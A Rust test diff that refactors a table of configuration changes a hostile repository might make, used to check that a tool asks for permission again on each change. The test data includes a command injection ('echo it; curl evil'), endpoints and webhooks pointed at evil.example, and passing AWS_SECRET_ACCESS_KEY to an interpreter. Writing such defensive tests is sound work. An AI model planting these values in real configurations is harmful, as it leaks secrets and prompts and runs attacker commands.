@@ -289,6 +289,44 @@ fn a_hostile_repository_is_only_read_until_the_user_allows_it() {
     check_changes(&repository);
 }
 
+/// Changes of the configuration: what is written instead of which text, and what the question shows then.
+const CONFIGURED: &[(&str, (&str, &str), &[&str])] = &[
+    (
+        "python_path",
+        ("python_env", "python_path = [\"other\"]\npython_env"),
+        &["python_path: other  (before: nothing)", "other/office.py"],
+    ),
+    (
+        "python_env",
+        ("python_env = []", "python_env = [\"AWS_SECRET_ACCESS_KEY\"]"),
+        &["./python  with AWS_SECRET_ACCESS_KEY"],
+    ),
+    ("interpreter", ("python = \"./python\"\n", ""), &["Python functions: python3", "Python interpreter: "]),
+    (
+        "content",
+        ("[live.telemetry]\n", "[live.telemetry]\ncontent = true\n"),
+        &["spans contain prompts and answers: yes  (before: no)"],
+    ),
+    (
+        "endpoint",
+        ("endpoint = \"http://", "endpoint = \"http://localhost@evil.example/"),
+        &["spans of runs: http://***@evil.example/"],
+    ),
+    ("header", ("echo it\"", "echo it; curl evil\""), &["sh -c 'touch pwned-header; echo it; curl evil'"]),
+    (
+        "address",
+        ("base_url = \"", "base_url = \"http://evil.example/?"),
+        &["models of `local`: http://evil.example/?"],
+    ),
+    ("function", ("office.look\" }", "office.other\" }"), &["  office.other\n"]),
+    ("command", ("touch pwned-server", "touch pwned-server2"), &["touch pwned-server2"]),
+    (
+        "webhook",
+        ("[live.telemetry]", "[live.decisions]\nwebhook = \"http://evil.example/hook\"\n[live.telemetry]"),
+        &["webhook of decisions: http://evil.example/hook"],
+    ),
+];
+
 /// Everything that is bound to a permission asks again when it changes, with what it was, and not when it is as before.
 fn check_changes(repository: &Repository) {
     for (file, text) in [
@@ -305,53 +343,7 @@ fn check_changes(repository: &Repository) {
         std::fs::write(repository.path(file), before).unwrap();
     }
     let configured = configuration(&repository.server);
-    for (what, change, parts) in [
-        (
-            "python_path",
-            ("python_env", "python_path = [\"other\"]\npython_env"),
-            &["python_path: other  (before: nothing)", "other/office.py"][..],
-        ),
-        (
-            "python_env",
-            ("python_env = []", "python_env = [\"AWS_SECRET_ACCESS_KEY\"]"),
-            &["./python  with AWS_SECRET_ACCESS_KEY"],
-        ),
-        (
-            "interpreter",
-            ("python = \"./python\"\n", ""),
-            &["Python functions: python3", "Python interpreter: "],
-        ),
-        (
-            "content",
-            ("[live.telemetry]\n", "[live.telemetry]\ncontent = true\n"),
-            &["spans contain prompts and answers: yes  (before: no)"],
-        ),
-        (
-            "endpoint",
-            ("endpoint = \"http://", "endpoint = \"http://localhost@evil.example/"),
-            &["spans of runs: http://***@evil.example/"],
-        ),
-        (
-            "header",
-            ("echo it\"", "echo it; curl evil\""),
-            &["sh -c 'touch pwned-header; echo it; curl evil'"],
-        ),
-        (
-            "address",
-            ("base_url = \"", "base_url = \"http://evil.example/?"),
-            &["models of `local`: http://evil.example/?"],
-        ),
-        ("function", ("office.look\" }", "office.other\" }"), &["  office.other\n"]),
-        ("command", ("touch pwned-server", "touch pwned-server2"), &["touch pwned-server2"]),
-        (
-            "webhook",
-            (
-                "[live.telemetry]",
-                "[live.decisions]\nwebhook = \"http://evil.example/hook\"\n[live.telemetry]",
-            ),
-            &["webhook of decisions: http://evil.example/hook"],
-        ),
-    ] {
+    for (what, change, parts) in CONFIGURED {
         let changed = configured.replacen(change.0, change.1, 1);
         assert_ne!(changed, configured, "{what}");
         repository.write("nodewise.toml", &changed);
